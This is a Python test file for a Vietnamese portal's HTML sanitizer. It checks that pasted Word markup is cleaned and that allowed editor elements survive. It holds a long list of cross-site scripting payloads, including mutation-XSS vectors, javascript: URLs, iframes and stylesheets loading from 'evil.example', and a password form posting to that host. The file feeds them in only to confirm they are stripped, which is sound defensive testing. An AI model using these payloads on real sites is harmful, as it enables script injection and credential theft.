"""What people paste and what attackers write: only the elements of our pages come through."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.content.html import clean, from_plain, images_in, looks_like_html, text_of

IMAGE = "/noi-dung/anh/12345678-1234-1234-1234-123456789abc/"
ALLOWED = {
    "a", "blockquote", "br", "caption", "em", "h2", "h3", "h4", "hr", "img", "li", "ol", "p", "strong", "sub", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "src", "alt", "width", "height", "start", "colspan", "rowspan", "scope"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<p onclick="alert(1)">x</p>',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    f'<img src="{IMAGE}" onload="alert(1)" alt="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<table><caption><svg><desc><template><img src=x onerror=alert(1)></template></desc></svg></caption></table>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<plaintext><script>alert(1)",
    "<a href=//evil.example/x>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://bo-tu-phap.vn@evil.example/'>x</a>",
    "\ud800<p>x</p>",
    "<p>x\x00y</p>",
]
WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- @font-face {font-family:X} -->
</style><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body lang=VI>
<h1 style='mso-margin-top-alt:auto'><span lang=EN-US style='font-size:16.0pt'>Kế hoạch<o:p></o:p></span></h1>
<p class=MsoNormal align=center style='text-align:center'><b style='mso-bidi-font-weight:normal'><span
style='font-family:"Times New Roman"'>Điều 1.</span></b> Nội dung<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Mục một</p>
<table class=MsoTableGrid border=1 style='border-collapse:collapse;mso-yfti-tbllook:1184'><tr style='mso-yfti-irow:0'>
<td width=100 valign=top style='width:75.0pt'><p class=MsoNormal>Ô <i>nghiêng</i></p></td></tr></table></body></html>"""


def elements(html: str) -> set[str]:
    return set(re.findall(r"</?([a-zA-Z][\w:-]*)", html))


def attributes(html: str) -> set[str]:
    return {name for tag in re.findall(r"<[a-z][^>]*>", html) for name in re.findall(r'\s([\w:-]+)="', tag)}


def is_harmless(html: str) -> bool:
    """Whether nothing but our elements and attributes is left, and no address of another kind."""
    tags = re.findall(r"<[a-z][^>]*>", html)
    addresses = [address for tag in tags for address in re.findall(r'\b(?:href|src)="([^"]*)"', tag)]
    return (
        elements(html) <= ALLOWED
        and attributes(html) <= ATTRIBUTES
        and all(re.match(r"https?://[^/]|mailto:|/(?!/)|#", address) for address in addresses)
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_comes_through(attack: str) -> None:
    cleaned = clean(attack)
    assert is_harmless(cleaned), cleaned
    assert "evil.example" not in cleaned
    assert clean(cleaned) == cleaned


FRAGMENTS = st.sampled_from([
    *ATTACKS, "<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<li>", "<ul>", "</ul>", "<table>", "<tr>", "<td>",
    "</table>", "<a href='/x'>", "<a>", "</a>", "<h2>", "</h2>", "<math>", "<mtext>", "<svg>", "<style>", "<!--", "-->",
    "&lt;", "&amp;", "&nbsp;", "chữ", "\n", "<br>", "<caption>", "<template>", "<select>", "<title>", "]]>", "<o:p>",
    "<pre>", "<sub>", "</sub>", "<dd>", "<hr>", "<col>", '"', "'", ">", "<",
])  # fmt: skip


@settings(max_examples=300)
@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=8)), max_size=12).map("".join))
def test_whatever_is_written_comes_out_harmless_and_stays_as_it_is(html: str) -> None:
    cleaned = clean(html)
    assert is_harmless(cleaned), cleaned
    assert clean(cleaned) == cleaned


def test_word_leaves_its_text_and_none_of_its_junk() -> None:
    cleaned = clean(WORD)
    assert cleaned.startswith("<h2>Kế hoạch</h2>")
    assert "<strong>Điều 1.</strong> Nội dung" in " ".join(cleaned.split())
    assert "<td><p>Ô <em>nghiêng</em></p></td>" in cleaned
    for junk in ("mso", "Mso", "style", "class", "o:p", "lang", "&nbsp;</p>", "font-face", "supportLists"):
        assert junk not in cleaned, junk


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<p>a <b>b</b> <i>c</i> <u>d</u></p>", "<p>a <strong>b</strong> <em>c</em> <u>d</u></p>"),
        ("<div>một</div><div>hai</div>", "<p>một</p><p>hai</p>"),
        ("<h1>Tên</h1><h6>nhỏ</h6>", "<h2>Tên</h2><h4>nhỏ</h4>"),
        ("chữ <em>rời</em>", "<p>chữ <em>rời</em></p>"),
        ('<ol start="3"><li>x</li></ol>', '<ol start="3"><li>x</li></ol>'),
        ("<li>lẻ</li>", "<p>lẻ</p>"),
        ('<a href="https://moj.gov.vn/x?a=1&amp;b=2">x</a>', '<p><a href="https://moj.gov.vn/x?a=1&amp;b=2">x</a></p>'),
        ('<p><a href="www.moj.gov.vn">x</a></p>', '<p><a href="https://www.moj.gov.vn">x</a></p>'),
        ('<p><a href="mailto:a@example.vn">x</a></p>', '<p><a href="mailto:a@example.vn">x</a></p>'),
        ('<p><a href="ftp://x">x</a></p>', "<p>x</p>"),
        ("<p></p><p>&nbsp;</p><p>x</p>", "<p>x</p>"),
        ("H<sub>2</sub>O, m<sup>2</sup>", "<p>H<sub>2</sub>O, m<sup>2</sup></p>"),
        (f'<p><img src="{IMAGE}" alt="Trụ sở" width="800" height="99999"></p>',
         f'<img src="{IMAGE}" alt="Trụ sở" width="800">'),
        (f'a<img src="{IMAGE}" alt="b">c', f'<p>a</p><img src="{IMAGE}" alt="b"><p>c</p>'),
        ('<p>x<img src="https://evil.example/a.png">y</p>', "<p>xy</p>"),
        ('<table><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table>',
         '<table><tbody><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></tbody></table>'),
    ],
)  # fmt: skip
def test_what_editors_need_is_kept(written: str, kept: str) -> None:
    assert clean(written) == kept


def test_text_is_a_line_for_each_block() -> None:
    html = clean("<h2>Một</h2><p>hai <b>ba</b><br>bốn</p><table><tr><td>5</td><td>6</td></tr></table>")
    assert text_of(html) == "Một\nhai ba\nbốn\n5 6"
    assert text_of(f'<p><img src="{IMAGE}" alt="Ảnh trụ sở"></p>') == "Ảnh trụ sở"
    assert images_in(clean(f'<img src="{IMAGE}" alt="x"><img src="{IMAGE}" alt="y">')) == [IMAGE]


def test_plain_lines_become_paragraphs() -> None:
    assert not looks_like_html("a < b và c > d")
    assert looks_like_html("<p>x</p>")
    assert clean(from_plain("Một\nhai\n\nba < bốn")) == "<p>Một<br>hai</p><p>ba &lt; bốn</p>"
